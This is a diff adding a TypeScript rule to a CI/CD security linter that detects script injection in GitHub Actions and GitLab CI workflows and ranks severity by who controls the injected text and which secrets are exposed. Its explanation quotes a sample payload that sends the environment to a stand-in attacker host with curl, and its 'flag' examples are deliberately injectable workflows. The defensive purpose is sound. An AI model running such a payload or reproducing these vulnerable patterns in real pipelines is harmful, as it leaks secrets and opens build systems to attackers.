@@ -1,0 +1,297 @@
+import { SEVERITIES, type Severity } from "../../core/levels.ts";
+import type { PipelineFlows, Reference } from "../../core/pipeline.ts";
+import type { Place } from "../../core/span.ts";
+import type { PolicyMatch } from "../../core/stages.ts";
+import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
+import type { GithubActionsModel, Step } from "../../platforms/github-actions/model.ts";
+import { opennessOf } from "../../platforms/github-actions/openness.ts";
+import type { Author } from "../../platforms/github-actions/outside-text.ts";
+import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-events.ts";
+import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
+import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
+import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
+import { definePolicy } from "../define-policy.ts";
+import { onePerPlace } from "../one-per-place.ts";
+import { isJobToken, namesSecret, secretName } from "../secret-like.ts";
+
+/** A text that an outsider chooses, as part of a script that has secrets beside it. */
+export const secretInInjectableStep = definePolicy({
+  meta: {
+    id: "untrusted/secret-in-injectable-step",
+    title: "Script that takes outsiders' text for code",
+    why: 'The platform puts the text of `${{ … }}` into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    severity: "critical",
+    confidence: "high",
+    preset: "recommended",
+    since: "0.1.0",
+    references: [
+      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+      "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
+    ],
+    practices: ["P5"],
+    cwe: [94, 78],
+  },
+  platforms: ["github-actions", "gitlab-ci"],
+  examples: {
+    flag: [
+      {
+        text: `
+          on: issues
+          jobs:
+            greet:
+              runs-on: ubuntu-latest
+              steps:
+                - run: echo "Thanks for \${{ «github.event.issue.title» }}"
+                  env:
+                    API_TOKEN: \${{ secrets.API_TOKEN }}
+                - uses: actions/github-script@v8
+                  with:
+                    script: console.log("\${{ «github.event.issue.body» }}")
+        `,
+      },
+      {
+        text: `
+          on: [pull_request_target, push]
+          env:
+            BRANCH: \${{ github.head_ref }}
+          jobs:
+            build:
+              runs-on: ubuntu-latest
+              steps:
+                - run: git log -1 --format=%s "origin/\${{ «env.BRANCH» }}"
+                - run: eval "build --branch «$BRANCH»"
+                - run: echo '\${{ toJSON(«github.event.head_commit.message») }}'
+        `,
+      },
+      {
+        text: `
+          on: pull_request
+          jobs:
+            lint:
+              runs-on: ubuntu-latest
+              steps:
+                - uses: tj-actions/changed-files@${"0123456789".repeat(4)}
+                  id: changed
+                - run: lint \${{ «steps.changed.outputs.all_changed_files» }}
+        `,
+      },
+      {
+        path: "action.yml",
+        text: `
+          name: Announce
+          inputs:
+            message:
+              description: What to say.
+            token:
+              description: For the chat.
+          runs:
+            using: composite
+            steps:
+              - shell: bash
+                run: announce "\${{ «inputs.message» }}"
+                env:
+                  CHAT_TOKEN: \${{ inputs.token }}
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          notify:
+            script:
+              - eval "echo «$CI_COMMIT_MESSAGE»"
+              - bash -c "notify --title '«\${CI_MERGE_REQUEST_TITLE}»' --key $CHAT_KEY"
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          variables:
+            BRANCH: origin/$CI_COMMIT_REF_NAME
+          deploy:
+            script:
+              - ssh deploy@example.com "cd /srv/app && git checkout «$BRANCH»"
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          .template:
+            before_script:
+              - python3 -c "print('«$CI_COMMIT_TITLE»')"
+          test:
+            extends: .template
+            script: [make test]
+        `,
+      },
+    ],
+    ok: [
+      {
+        text: `
+          on: issues
+          jobs:
+            greet:
+              runs-on: ubuntu-latest
+              steps:
+                - run: |
+                    echo "Thanks for $TITLE"
+                    bash -c 'echo "$1"' _ "$TITLE"
+                  env:
+                    TITLE: \${{ github.event.issue.title }}
+                    API_TOKEN: \${{ secrets.API_TOKEN }}
+                - if: contains(github.event.issue.body, 'help')
+                  run: ./help.sh \${{ github.event.issue.number }} \${{ contains(github.event.issue.body, 'now') }}
+        `,
+      },
+      {
+        text: `
+          on:
+            push:
+              branches: [main]
+            workflow_dispatch:
+              inputs:
+                level:
+                  type: choice
+                  options: [patch, minor]
+          jobs:
+            release:
+              if: github.event_name == 'push'
+              runs-on: ubuntu-latest
+              steps:
+                - run: release \${{ inputs.level }} \${{ github.sha }} \${{ github.event.pull_request.title }}
+        `,
+      },
+      {
+        text: `
+          on: pull_request_target
+          jobs:
+            label:
+              if: github.event.pull_request.head.repo.full_name == github.repository
+              runs-on: ubuntu-latest
+              steps:
+                - run: label \${{ github.head_ref }}
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          notify:
+            script:
+              - echo "$CI_COMMIT_MESSAGE"
+              - eval "$(ssh-agent -s)"
+              - bash -c 'notify "$CI_COMMIT_TITLE"'
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          build:
+            script:
+              - sh -c 'build --branch "$1"' _ "$CI_COMMIT_REF_NAME"
+              - python3 build.py -c "$CI_COMMIT_TITLE"
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          deploy:
+            script:
+              - ssh deploy@example.com "cd /srv/app && git checkout $CI_COMMIT_SHA && ./up $CI_COMMIT_REF_SLUG"
+        `,
+      },
+    ],
+  },
+  check({ model, flows }) {
+    if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
+    return onePerPlace(
+      evaluatedIn(model, flows).map(({ place, name, by, script }) => {
+        // Every job has its own token, and the variables of the project that the file does not name.
+        const [secret] = script.secrets.filter((one) => !isJobToken(one));
+        const severity: Severity = secret === undefined ? "medium" : "high";
+        const message = `The text of $${name} is run by \`${by}\`, and whoever writes the commit or merge request chooses it.`;
+        return { place, severity, message, related: related(secret) };
+      }),
+    );
+  },
+});
+
+/** What an injected command could get hold of. */
+interface Stake {
+  readonly secret?: Reference;
+  readonly writes: boolean;
+  /** Whether the permissions of the job's token are left to settings. */
+  readonly unstated: boolean;
+}
+
+function matchOf(model: GithubActionsModel, flows: PipelineFlows, injection: Injection): PolicyMatch[] {
+  const stake = stakeOf(model, flows, injection);
+  const ranked = injection.chosen
+    .flatMap((one) => {
+      const severity = severityOf(model, injection, one, stake);
+      return severity === undefined ? [] : [{ ...one, severity }];
+    })
+    .sort((a, b) => SEVERITIES.indexOf(b.severity) - SEVERITIES.indexOf(a.severity));
+  const [worst] = ranked;
+  if (worst === undefined) return [];
+  const { path, place, by } = injection;
+  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
+  const through = worst.event === undefined ? "" : ` on ${worst.event.name.value}`;
+  const message = `The text of ${path} ${how}, and ${CHOOSERS[worst.author]} chooses it${through}.`;
+  return [{ place, severity: worst.severity, message, related: related(stake.secret) }];
+}
+
+const CHOOSERS: Readonly<Record<Author, string>> = {
+  outsider: "anybody",
+  merged: "the author of a merged commit",
+  project: "whoever may write to the repository",
+  caller: "the caller",
+};
+
+const related = (secret: Reference | undefined): NonNullable<PolicyMatch["related"]> =>
+  secret === undefined ? [] : [{ place: secret.place, message: `Here ${secretName(secret.secret)} is given.` }];
+
+function stakeOf(model: GithubActionsModel, flows: PipelineFlows, { job, step }: Injection): Stake {
+  if (model.kind === "action" || job === undefined) {
+    const [secret] = flows.references.filter(({ place }) => isWithin(place, step.place));
+    return { ...(secret && { secret }), writes: isGivenSecret(step), unstated: true };
+  }
+  const [secret] = secretsInReach(flows, job);
+  const token = tokenAccess(permissionsOf(model, job));
+  return { ...(secret && { secret }), writes: token === "writes", unstated: token === "unstated" };
+}
+
+const isWithin = ({ span }: Place, outer: Place): boolean =>
+  outer.span.start <= span.start && span.end <= outer.span.end;
+
+/** Secrets come into an action through its inputs, known by their names. */
+function isGivenSecret({ env, with: inputs }: Step): boolean {
+  return [...env.entries, ...inputs.entries].some(
+    ({ name, value }) => namesSecret(name.value) && /\$\{\{\s*inputs\./.test(value.value),
+  );
+}
+
+/** Events beside `PRIVILEGED_EVENTS` that any reader of a public repository can cause. */
+const ALSO_PRIVILEGED = new Set(["gollum", "commit_comment", "workflow_call"]);
+
+const isPrivileged = (event: string): boolean => PRIVILEGED_EVENTS.has(event) || ALSO_PRIVILEGED.has(event);
+
+/** How bad it is if this author chooses the text; undefined where the job does not run then. */
+function severityOf(
+  model: GithubActionsModel,
+  { job, step }: Injection,
+  { author, event }: Injection["chosen"][number],
+  { secret, writes, unstated }: Stake,
+): Severity | undefined {
+  const hasStake = secret !== undefined || writes;
+  const grade = (full: Severity, partly: Severity): Severity => (hasStake ? full : unstated ? partly : "low");
+  if (author === "project" || author === "caller") return grade("medium", "low");
+  if (author === "merged") return grade("high", "medium");
+  if (model.kind === "action" || event === undefined || job === undefined) return grade("high", "medium");
+  const openness = opennessOf(model, event, job, step);
+  if (openness === "closed") return undefined;
+  if (!isPrivileged(event.name.value)) return "low";
+  return openness === "open" && event.name.value !== "workflow_call"
+    ? grade("critical", "high")
+    : grade("high", "medium");
+}
